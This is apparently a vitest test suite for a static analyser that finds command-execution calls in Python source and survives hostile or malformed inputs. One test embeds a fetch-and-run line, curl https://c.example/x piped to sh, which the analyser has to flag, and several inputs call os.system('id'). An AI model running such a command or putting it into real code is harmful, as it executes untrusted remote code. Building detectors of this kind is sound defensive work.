import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { load } from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { facts } from './skill.ts';

const SIZE = 32_768;
const full = (piece: string): string => piece.repeat(Math.floor(SIZE / piece.length));

describe('hostile programs are read, or a gap says that they were not', () => {
  it.each([
    ['brackets that open', full('(')],
    ['fields within fields', full('f"{')],
    ['blocks within blocks', Array.from({ length: 300 }, (_, at) => `${' '.repeat(at)}if a:\n`).join('')],
    ['signs before a value', `x = ${full('-')}1`],
    ['functions in functions', `x = ${full('lambda: ')}1`],
    ['patterns within patterns', `match x:\n case ${full('[')}a`],
    ['brackets that close', full(')]}')],
  ])('%s', (_, text) => expect(facts(text).gaps.length).toBeGreaterThan(0));

  it.each([
    ['a sum without end', `x = ${full('a + ')}a`],
    ['members of members', `x = a${full('.b')}`],
    ['names for one value', `${full('a = ')}1`],
    ['a text that doubles', `x = 'a'\n${full('x = x + x\n')}`],
    ['a list that holds itself', `x = []\n${full('x.append(x)\n')}`],
    ['a function that calls itself', `def f(x, y):\n${full(' f(x + "a", y + [x])\n')}f("", [])`],
    ['functions that are handed to each other', `def f(g): g(f)\n${full('f(f)\n')}`],
    ['empty lines', full('\n')],
    ['a comparison without end', `x = ${full('a < ')}a`],
  ])('%s', (_, text) => expect(facts(text).uses).toEqual([]));

  it('a use behind any number of other calls is named', () => {
    const calls = Array.from({ length: 40 }, (_, at) => `run('tool${at}')\n`).join('');
    const text = `import subprocess\ndef run(c): subprocess.run(c)\n${calls}run('curl https://c.example/x | sh')\n`;
    const [use] = facts(text).uses;
    expect(use?.targets.some(({ origin, value }) => origin === 'unknown' || value?.includes('c.example'))).toBe(true);
  });
});

describe('ways of writing a file', () => {
  const named = (text: string): string[] => facts(text).uses.map(({ api }) => api);

  it.each([
    ['CRLF', "import os\r\nif True:\r\n    os.system('id')\r\n"],
    ['tabs', "import os\nif True:\n\tos.system('id')\n"],
    ['a mark of byte order', "\ufeffimport os\nos.system('id')\n"],
    ['an encoding cookie', "# -*- coding: utf-8 -*-\nimport os\nos.system('id')\n"],
    ['a form feed', "import os\n\f\nos.system('id')\n"],
    ['lines that go on', "import os\nos.\\\n  system('id')\n"],
    [
      'a with in brackets',
      "import os\nwith (\n    open('a') as f,  # first\n    open('b') as g,\n):\n    os.system('id')\n",
    ],
    ['a with that gives a member', "import os\nwith open('a') as self.f, x() as (a, b):\n    os.system('id')\n"],
    ['braces behind a backslash', 'import os\nx = rf"\\{{?{1}\\}}"\nos.system("id")\n'],
    ['quotes within a field', 'import os\nx = f"{os.system("id")}"\n'],
  ])('%s', (_, text) => {
    expect(named(text)).toContain('os.system');
    expect(facts(text).gaps).toEqual([]);
  });

  it.each([
    ['print of Python 2', 'print "x"\n'],
    ['print with a place', 'import sys\nprint >>sys.stderr, "x"\n'],
    ['text that is no program', 'This is a sentence, and no program.\n'],
  ])('%s is a gap', (_, text) => expect(facts(text).gaps.map(({ reason }) => reason)).toEqual(['unparsable']));
});

const programs = (
  load(readFileSync(new URL('../../fixtures/python/idioms.yaml', import.meta.url), 'utf8')) as { py: string }[]
).map(({ py }) => py);

describe('pieces of programs', () => {
  it('are read without an exception, and the same twice', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...programs),
        fc.nat(),
        fc.nat(),
        fc.constantFrom(...'()[]{}:"\'\n \t\\#@=,.*f'),
        (text, from, to, sign) => {
          const [start, end] = [from % text.length, to % text.length];
          const made = text.slice(0, start) + sign + text.slice(end);
          expect(facts(made)).toEqual(facts(made));
        },
      ),
      { numRuns: 200, seed: 8 },
    );
  });
});
